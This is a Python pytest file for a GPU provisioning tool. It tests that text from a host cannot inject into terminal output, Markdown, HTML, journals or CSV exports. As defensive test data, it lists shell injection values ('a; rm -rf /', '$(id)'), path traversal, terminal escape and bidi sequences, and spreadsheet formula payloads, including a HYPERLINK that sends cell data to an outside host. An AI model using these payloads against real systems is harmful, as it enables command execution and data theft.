"""What a host says does nothing where it is shown: terminal, Markdown, browser, CI, Prometheus, sheet, journal."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
from pathlib import Path

import hostilerecords
import pytest
from hostilerecords import PAYLOADS, spoiled
from nightmetrics import drifted
from parsedformats import _no_constant, _request, parsed
from validations_for_tests import h200, t4

from gpuprep import errors, records, reports
from gpuprep.cli import edge, history_list, history_upkeep, tables, work
from gpuprep.cli.console import Console, emit
from gpuprep.nightly import journal, last, notify
from gpuprep.provisioning import ansible_events
from gpuprep.reports import csv as csv_report
from gpuprep.reports.html import fleet as html_fleet
from gpuprep.store import RunSummary

# All that a terminal may get: letters that show, newlines, and the colours of our own pages where there are any.
OURS = re.compile(r"\x1b\[(?:0|1|3[0-7])m")


def harmless(text: str) -> str:
    letters = text.replace("\n", "")
    assert letters.isprintable(), [letter for letter in letters if not letter.isprintable()][:5]
    return text


def _spoiled(record: records.RunRecord, payload: str) -> records.RunRecord:
    made: records.RunRecord = spoiled(dataclasses.replace(record, error=None), payload)
    return made


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("style", reports.FORMATS)
def test_a_record_full_of_it(style: str, name: str) -> None:
    for record in (h200(), t4(), drifted("gpu-03")):
        text = reports.render(_spoiled(record, PAYLOADS[name]), style)
        parsed(text, style)
        if style != "html":  # whose table of shapes has breaks of its own
            harmless(text)


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("style", reports.RECORDS)
def test_a_fleet_with_it(style: str, name: str) -> None:
    bad = dataclasses.replace(_spoiled(drifted("gpu-03"), PAYLOADS[name]), error=None)
    failed = dataclasses.replace(bad, host="gpu-04", verdict=None, error=f"gpu-04: {PAYLOADS[name]}\n  | x")
    text = reports.render_fleet([drifted("gpu-01", (), records.Status.PASS), bad, failed], style, 1)
    parsed(text, style)
    harmless(text)


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_terminal_with_colours_gets_ours_alone(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    from gpuprep.reports import text as pages

    bad = _spoiled(drifted("gpu-03"), PAYLOADS[name])
    work.show_fleet([drifted("gpu-01", (), records.Status.PASS), bad], _request(), "text")
    work._show([bad], _request(), as_plan=False)
    emit(pages.render(bad, color=True), None)
    said = capsys.readouterr()
    harmless(OURS.sub("", said.out))
    harmless(said.err)


def test_a_forged_colour_is_not_painted(capsys: pytest.CaptureFixture[str]) -> None:
    bad = _spoiled(drifted("gpu-03"), PAYLOADS["paints as a pass"])
    work.show_fleet([bad], _request(), "text")
    assert "\x1b" not in capsys.readouterr().out


# ---------------------------------------------------------------- Markdown

MARKDOWN = {
    "mention": ("@all", r"(?<!>)@all|@all\b"),
    "mention in brackets": ("(@all)", r"@all"),
    "address": ("me@evil.example", r"@evil"),
    "issue": ("#1", r"#1"),
    "issue of another project": ("a/b#1", r"#1"),
    "issue of GitHub's": ("closes GH-12", r"GH-12"),
    "merge request": ("!7", r"!7"),
    "emoji": (":white_check_mark:", r":white_check_mark:|:white\\_check\\_mark:"),
    "www": ("www.evil.example", r"www\.evil"),
    "WWW": ("WWW.evil.example", r"(?i)www\.evil"),
    "formula": ("$\\color{green}{PASS}$", r"(?<!\\)\$"),
    "comment": ("<!-- rest", r"<!-- rest"),
    "bidi": ("\u202eSSAP", "\u202e"),
    "C1": ("\x9b2J", "\x9b"),
    "escape": ("\x1b[2J", "\x1b"),
}


@pytest.mark.parametrize("name", MARKDOWN)
def test_markdown_makes_nothing_of_it(name: str) -> None:
    said, made = MARKDOWN[name]
    finding = dataclasses.replace(hostilerecords.BAD, actual=said, reason=said)
    for text in (reports.render(hostilerecords.found(finding), "markdown"),
                 reports.render_fleet([hostilerecords.found(finding)], "markdown", 1)):  # fmt: skip
        assert not re.search(made, text), text


@pytest.mark.parametrize("line", ["- PASS", "+ PASS", "1. PASS", "=====", "12) PASS"])
def test_a_line_of_an_error_is_no_list_and_no_heading(line: str) -> None:
    record = hostilerecords.of(verdict=None, findings=(), error=f"evil\n{line}")
    text = reports.render_fleet([record], "markdown", 3)
    assert not re.search(r"^(?:[-+] |\d+[.)]|=+$)", text, re.MULTILINE), text


def test_a_mention_can_still_be_read() -> None:
    finding = dataclasses.replace(hostilerecords.BAD, actual="a @ b, 0000:3b:00.0")
    assert "a \\@ b, 0000\\:3b\\:00.0" in reports.render(hostilerecords.found(finding), "markdown")


# ---------------------------------------------------------------- HTML


def test_no_word_of_a_host_passes_for_a_verdict() -> None:
    case = {"id": "1", "title": "x", "outcome": "PASS", "seconds": 1.0, "outputs": []}
    record = hostilerecords.measured({"cases": [case]}, "transcode")
    page = reports.render(dataclasses.replace(record, verdict=None, findings=()), "html")
    assert 'class="pill PASS"' not in page
    assert not re.search(r"1 +PASS", reports.render(dataclasses.replace(record, verdict=None, findings=()), "text"))


@pytest.mark.parametrize("run_id", ["../../etc/x", "a; rm -rf /", "$(id)", "-rf", "--output=/etc/x", "`id`", "|x"])
def test_the_command_beside_a_host_is_one_that_may_be_pasted(run_id: str) -> None:
    import shlex

    facts = dict(html_fleet._facts(hostilerecords.of(run_id=run_id)))
    words = shlex.split(facts["whole page"])
    assert words[words.index("--output") + 1] == "report.html"
    assert facts["whole page"] in html.unescape(reports.render_fleet([hostilerecords.of(run_id=run_id)], "html", 1))
    place = next(place for place, word in enumerate(words) if word == " ".join(run_id.split()))
    assert not run_id.startswith("-") or words[place - 1] == "--"


@pytest.mark.parametrize("run_id", ["a; rm -rf /", "$(id)", "-rf", "`id`", "x\ngpuprep"])
def test_so_is_the_one_behind_an_error_and_behind_a_page(run_id: str, capsys: pytest.CaptureFixture[str]) -> None:
    import shlex

    work.errors_to_stderr([hostilerecords.of(run_id=run_id, error="evil: lost")])
    line = capsys.readouterr().err.splitlines()[-1].partition("report: ")[2]
    assert " ".join(run_id.split()) in shlex.split(line)
    assert shlex.split(line)[:2] == ["gpuprep", "report"]
    work._show([hostilerecords.of(run_id=run_id)], _request(), as_plan=False)
    (line,) = [line[8:] for line in capsys.readouterr().out.splitlines() if line.startswith("Report: ")]
    assert " ".join(run_id.split()) in shlex.split(line)


# ---------------------------------------------------------------- progress, errors, lists

EVENTS = {
    "stage": lambda said: ansible_events.Progress("stage", "", "", said, 0.0),
    "note": lambda said: ansible_events.Progress("note", "", "", said, 0.0),
    "waiting": lambda said: ansible_events.Progress("waiting", "gpu_driver", "Build", said, 0.0),
    "diff": lambda said: ansible_events.Progress("diff", "gpu_driver", "Write", said, 0.0),
    "task": lambda said: ansible_events.Progress("task_end", said, said, "changed", 0.0),
    "outcome": lambda said: ansible_events.Progress("task_end", "gpu_driver", "x", said, 0.0),
}


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("kind", EVENTS)
def test_progress_shows_it_on_lines_of_its_host(kind: str, name: str) -> None:
    stream = io.StringIO()
    with Console(["evil", "b"], verbose=1, quiet=False, no_color=True, stream=stream) as console:
        console.progress("evil", EVENTS["waiting"]("x"))
        console.progress("evil", EVENTS[kind](PAYLOADS[name]))
        console.say(PAYLOADS[name].replace("\n", " "))
    *lines, _ = harmless(stream.getvalue()).splitlines()
    assert all("evil | " in line for line in lines), lines


@pytest.mark.parametrize("name", PAYLOADS)
def test_errors_show_it(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    work.errors_to_stderr([hostilerecords.of(error=f"evil: {PAYLOADS[name]}")])
    edge.show(errors.HostError("x", log=f"/tmp/{PAYLOADS[name]}".replace("\n", "")))
    said = capsys.readouterr().err
    harmless(said)
    assert all(line.startswith(("Error: ", "  ")) for line in said.splitlines())


@pytest.mark.parametrize("name", PAYLOADS)
def test_lists_show_it(name: str) -> None:
    said = PAYLOADS[name]
    run = RunSummary(said, said, said, said, "", "", records.Source.MEASURED, records.Status.PASS, 0, said, 0)
    harmless(history_list.table(history_list.Listed([run, run], {}, {}), False, True))
    assert len(history_list.table(history_list.Listed([run, run], {}, {}), False, False).splitlines()) == 3
    assert len(tables.lines([(said, "x"), ("a" * 100_000, "y")])) == 2
    assert max(map(len, tables.lines([("a" * 100_000, "y")]))) < 1000
    parsed(tables.document(runs=[run], host=said), "json")


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_no_document_has_a_number_that_is_none(value: float) -> None:
    document = json.loads(tables.document(figure=value, more=[{"x": value}]), parse_constant=_no_constant)
    assert document["figure"]["missing"] == "unparsable"
    record = hostilerecords.measured({"gpus": [], "x": value})
    for text in (reports.render(record, "json"), reports.render_fleet([record, record], "json", 0)):
        json.loads(text, parse_constant=_no_constant)
    stored = json.dumps({"x": value})
    json.loads(history_upkeep._strict(stored), parse_constant=_no_constant)


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_journal_and_the_host_s_own_words(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from datetime import datetime, timezone

    from gpuprep.records import to_json

    stream = io.StringIO()
    journal.say(journal.ERROR, f"Error: {PAYLOADS[name]}", stream)
    assert len(harmless(stream.getvalue()).splitlines()) == 1
    record = dataclasses.replace(_spoiled(drifted("gpu-03"), PAYLOADS[name]), run_id="20261121-023000-0aa")
    (tmp_path / "last.json").write_text(to_json(record))
    last.main(tmp_path, now=datetime(2026, 11, 21, 3, tzinfo=timezone.utc))
    said = capsys.readouterr()
    harmless(said.out)
    harmless(said.err)
    told = json.dumps(notify.document(record, ""), ensure_ascii=False)
    harmless(told.replace("\\n", ""))


def test_a_journal_line_has_an_end() -> None:
    stream = io.StringIO()
    journal.say(journal.ERROR, "x" * 1_000_000, stream)
    assert len(stream.getvalue()) < 5000


# ---------------------------------------------------------------- spreadsheets

CELLS = [
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1",
    "\uff1d1+1", "\uff0bx", '=HYPERLINK("http://h/?"&A1,"PASS")', "\x1b=1",
]  # fmt: skip


@pytest.mark.parametrize("cell", CELLS)
def test_no_cell_is_a_formula(cell: str) -> None:
    text = "".join(csv_report.lines([("host", "value", "code"), (cell, -1.5, -2)]))
    harmless(text.replace("\t", ""))
    [_, (read, value, code)] = list(csv.reader(io.StringIO(text)))
    assert (value, code) == ("-1.5", "-2"), "numbers stay numbers"
    for part in re.split(r"[;\t\n\r]", read):
        assert not re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", part), part
